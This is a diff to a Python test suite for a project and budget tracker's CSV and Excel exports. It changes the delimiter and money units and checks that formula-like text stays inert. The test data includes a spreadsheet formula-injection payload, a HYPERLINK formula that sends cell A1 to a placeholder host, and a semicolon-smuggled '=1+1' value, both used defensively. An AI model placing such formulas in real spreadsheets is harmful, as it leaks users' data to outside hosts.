@@ -94,7 +94,7 @@ def assert_xlsx_is_data(content: bytes, texts: set) -> None:
 
 def csv_rows(content: bytes) -> list[list[str]]:
     assert content.startswith(codecs.BOM_UTF8)
-    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
 
 
 def assert_csv_is_data(content: bytes, texts: set) -> list[list[str]]:
@@ -115,9 +115,9 @@ LISTS = [
     (
         "project_list",
         {HYPERLINK, AGENCY, NOTE, TAB_NAME, SCALE, PARTNERS},
-        "Dự kiến kinh phí (đồng)",
+        "Dự kiến kinh phí (triệu đồng)",
     ),
-    ("budget_list", {HYPERLINK, TAB_NAME}, "Số tiền (đồng)"),
+    ("budget_list", {HYPERLINK, TAB_NAME}, "Số tiền (triệu đồng)"),
     ("indicator_list", {INDICATOR, NOTE}, None),
 ]
 
@@ -132,10 +132,10 @@ def test_list_xlsx_export_keeps_formula_like_texts_as_text_and_money_as_numbers(
     assert_xlsx_is_data(response.content, texts)
     if money:
         sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-        rows = list(sheet.iter_rows(values_only=True))
+        rows = list(sheet.iter_rows(min_row=2, values_only=True))  # row 1 says the filter
         amounts = [a for a in column(rows, money) if a is not None]
-        assert all(type(a) is int for a in amounts)
-        expected = {2_000_000_000} if url_name == "project_list" else set(AMOUNTS)
+        assert all(isinstance(a, int | float) for a in amounts)
+        expected = {2_000} if url_name == "project_list" else {1_500, 250}  # triệu đồng
         assert set(amounts) == expected
 
 
@@ -148,7 +148,7 @@ def test_list_csv_export_prefixes_formula_like_texts_and_keeps_digits(
     assert response.status_code == 200
     rows = assert_csv_is_data(response.content, texts)
     if money:
-        expected = {"2000000000", ""} if url_name == "project_list" else {"1500000000", "250000000"}
+        expected = {"2000", ""} if url_name == "project_list" else {"1500", "250"}
         assert set(column(rows, money)) == expected
 
 
@@ -161,7 +161,7 @@ def test_csv_quotes_every_text_so_a_semicolon_cannot_split_one_and_numbers_stay_
     (line,) = [line for line in text.splitlines() if "HYPERLINK" in line]
     assert '"\'=HYPERLINK(""http://x.example/""&A1,""Bấm"")"' in line
     assert '"Kết nối;=1+1"' in line  # Excel with ";" as list separator keeps it one cell
-    assert ",2000000000," in line
+    assert ";2000;" in line  # triệu đồng, a bare number
 
 
 def admin_export(client, name, file_format):
@@ -191,9 +191,9 @@ def test_admin_exports_keep_formula_like_texts_as_data(client, hostile, name, te
     if name == "budgets_budgetline":
         sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
         xlsx_rows = list(sheet.iter_rows(values_only=True))
-        assert sorted(column(xlsx_rows, "Số tiền (đồng)")) == sorted(AMOUNTS)
+        assert sorted(column(xlsx_rows, "Số tiền (triệu đồng)")) == [250, 1_500]
         assert sorted(column(xlsx_rows, "Năm")) == [2022, 2023]
-        assert sorted(column(rows, "Số tiền (đồng)")) == ["1500000000", "250000000"]
+        assert sorted(column(rows, "Số tiền (triệu đồng)")) == ["1500", "250"]
 
 
 def test_plan_workbook_keeps_texts_exact_and_money_as_numbers(client, hostile):
